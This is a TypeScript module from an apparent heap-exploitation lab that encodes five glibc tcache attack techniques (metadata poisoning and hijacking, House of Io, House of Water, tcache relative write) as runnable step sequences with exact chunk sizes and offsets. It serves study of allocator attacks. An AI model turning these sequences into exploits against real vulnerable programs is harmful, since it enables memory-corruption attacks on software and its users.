/** The cache's own struct, a block of the heap like any other: counters, then list heads. */
import { TCACHE_BINS } from '../../heap/index.ts';
import { classOf } from '../facts.ts';
import type { Lab } from '../lab.ts';
import { needsCache, type Technique } from '../technique.ts';

/** Writes a list's head, and a counter that says the list is not empty. */
function forgeList(lab: Lab, chunkSize: number, forge: (at: number) => void): void {
  const { countBytes, headsAt } = lab.facts.cache!;
  const struct = lab.cacheStruct();
  const index = classOf(chunkSize);
  const word = (countBytes * index) & ~7;
  lab.write(struct, word, 1n << BigInt(8 * (countBytes * index - word)));
  forge(headsAt + 8 * index);
}

export const tcacheMetadataPoisoning: Technique = {
  name: 'tcache_metadata_poisoning',
  what: "Writes a counter and a list head into the cache's struct.",
  needs: "a write to the cache's struct, which is the first block of the heap",
  corrupts: "the cache's struct",
  gains: 'a block at an address of choice',
  scope: 'whole',
  notOn: needsCache,
  run(lab) {
    const target = lab.malloc(0x100, 'target');
    forgeList(lab, 0x60, (at) => lab.writeAddress(lab.cacheStruct(), at, target, 0x20));
    lab.proveSame('the block lies in the target', lab.malloc(0x58, 'won'), target, 0, 0x20);
  },
};

export const tcacheMetadataHijacking: Technique = {
  name: 'tcache_metadata_hijacking',
  what: "The cache's struct is made late, behind blocks of the program: an overflow reaches it going forward.",
  needs: 'an overflow of a block that is older than the cache',
  corrupts: "the cache's struct",
  gains: 'a block at an address of choice',
  scope: 'whole',
  fresh: true,
  notOn: ({ minor }) => (minor >= 42 ? null : 'the cache is the first block of the heap before 2.42'),
  run(lab) {
    const old = lab.malloc(0x508, 'old');
    const small = lab.malloc(0x18, 'small');
    lab.free(small);
    const struct = lab.cacheStruct();
    const distance = struct.pointer - old.pointer;
    const target = lab.malloc(0x108, 'target');
    lab.say(`The struct lies 0x${distance.toString(16)} bytes behind old.`);
    forgeList(lab, 0x60, (at) => lab.writeAddress(old, distance + at, target, 0x20));
    lab.proveSame('the block lies in the target', lab.malloc(0x58, 'won'), target, 0, 0x20);
  },
};

export const houseOfIo: Technique = {
  name: 'house_of_io',
  what: "The key of a cached block is the struct's address: a program that follows its second word edits the cache.",
  needs: "a write through a freed block's second word",
  corrupts: "the cache's struct",
  gains: 'a block at an address of choice',
  scope: 'whole',
  notOn: ({ minor }) => (minor >= 29 ? null : 'cached blocks carry no key before 2.29'),
  run(lab) {
    const target = lab.malloc(0x100, 'target');
    const freed = lab.malloc(0x38, 'freed');
    lab.free(freed);
    const struct = lab.follow(lab.read(freed, 0x8), 'key');
    lab.say('What the key names is the struct itself: counters, then heads.');
    const { headsAt } = lab.facts.cache!;
    lab.write(struct, (2 * classOf(0x60)) & ~7, 1n << BigInt(16 * (classOf(0x60) % 4)));
    lab.writeAddress(struct, headsAt + 8 * classOf(0x60), target, 0x20);
    lab.proveSame('the block lies in the target', lab.malloc(0x58, 'won'), target, 0, 0x20);
  },
};

export const houseOfWater: Technique = {
  name: 'house_of_water',
  what: 'Two frees make list heads that are the links of a chunk inside the struct; two low bytes link it into a bin.',
  needs: 'frees of forged small chunks; overwriting low bytes of two links; no address',
  corrupts: 'forged sizes; low bytes of fd and bk of two free chunks',
  gains: "a block over the cache's list heads",
  scope: 'whole',
  notOn: needsCache,
  run(lab) {
    const { cache, fillers, profile } = lab.facts;
    const { headsAt, countBytes } = cache!;
    const struct = lab.cacheStruct();
    // The first head whose address is a multiple of 16 is the fd of the chunk that is forged there.
    const shift = ((struct.pointer + headsAt) % 16) / 8;
    const forged = lab.at(struct, headsAt + 8 * shift - 16, 'forged');
    const direct = profile.smallFreeToSmallBin;
    if (!direct) {
      lab.say('Two counters beside each other read as a size: 0x10001.');
      const classes = countBytes === 2 ? [60, 61] : [56, 58];
      for (const index of classes) lab.free(lab.malloc(16 * (index + 2) - 8, 'counted'));
    }
    const blocks = lab.mallocMany(fillers, 0x88);
    lab.malloc(0x18, 's0');
    const start = lab.malloc(0x88, 'start');
    lab.malloc(0x18, 's1');
    const middle = lab.malloc(0x88, 'middle');
    lab.malloc(0x18, 's2');
    const end = lab.malloc(0x88, 'end');
    lab.malloc(0x18, 's3');
    if (!direct) {
      const beyond = forged.pointer + 0x1_0000;
      lab.malloc(beyond - lab.top - 0x18, 'padding');
      const last = lab.malloc(0x28, 'last');
      lab.say('Where the chunk of 0x10000 bytes would end: its size again, and one behind it.');
      lab.write(last, beyond - last.pointer, 0x1_0000);
      lab.write(last, beyond - last.pointer + 8, 0x20);
    }
    lab.freeMany(blocks);
    lab.say(
      'Two small chunks forged around the headers of start and end: freed, they are heads of the cache.',
    );
    for (const { block, size } of [
      { block: start, size: 0x20 + 16 * (shift + 1) },
      { block: end, size: 0x20 + 16 * shift },
    ]) {
      lab.write(block, -0x18, size + 1);
      lab.free(lab.at(block, -0x10, `${block.name} chunk`));
      lab.write(block, -0x8, 0x91);
    }
    for (const block of [end, middle, start]) lab.free(block);
    lab.say('Low bytes of two links, and the chunk in the struct stands between start and end.');
    lab.writeLowBytes(start, 0, 2, forged);
    lab.writeLowBytes(end, 0x8, 2, forged);
    lab.mallocMany(fillers, 0x88);
    let won = lab.malloc(direct ? 0x88 : 0x288, 'won');
    if (direct) {
      lab.malloc(0x88, 'stashed');
      won = lab.malloc(0x88, 'won');
    }
    lab.proveSame("the block lies over the cache's heads", won, struct, 0x20, headsAt + 8 * shift + 0x20);
  },
};

export const tcacheRelativeWrite: Technique = {
  name: 'tcache_relative_write',
  what: "The cache's limit is overwritten: a large block is filed under a class that lies outside of the struct.",
  needs: "a large number written over the C library's parameter (by a large bin attack)",
  corrupts: 'the parameter tcache_bins',
  gains: "a block's address written at a chosen distance behind the struct",
  scope: 'whole',
  limitsInMemory: true,
  notOn: (facts) =>
    needsCache(facts) ?? (facts.cache!.countsPlaces ? 'the limit is another one from 2.42 on' : null),
  run(lab) {
    const { headsAt } = lab.facts.cache!;
    const struct = lab.cacheStruct();
    const target = lab.malloc(0x100, 'target');
    // The class whose head would stand in the target.
    const index = Math.ceil((target.pointer + 0x40 - struct.pointer - headsAt) / 8);
    const seen = struct.pointer + headsAt + 8 * index - target.pointer;
    const freed = lab.malloc(16 * (index + 2) - 8, 'freed');
    const large = lab.malloc(0x428, 'large');
    lab.malloc(0x18, 'g1');
    const smaller = lab.malloc(0x418, 'smaller');
    lab.malloc(0x18, 'g2');
    lab.free(large);
    lab.malloc(0x438, 'sorter');
    lab.free(smaller);
    lab.say('A large bin attack on the limit.');
    lab.writeAddress(large, 0x18, lab.library(TCACHE_BINS, 'tcache_bins'), -0x20);
    lab.malloc(0x438, 'sorter2');
    lab.say(`Now every size is cached. Class ${index} has its head in the target.`);
    lab.free(freed);
    lab.proveAddress('the address of freed stands in the target', target, seen, freed);
  },
};
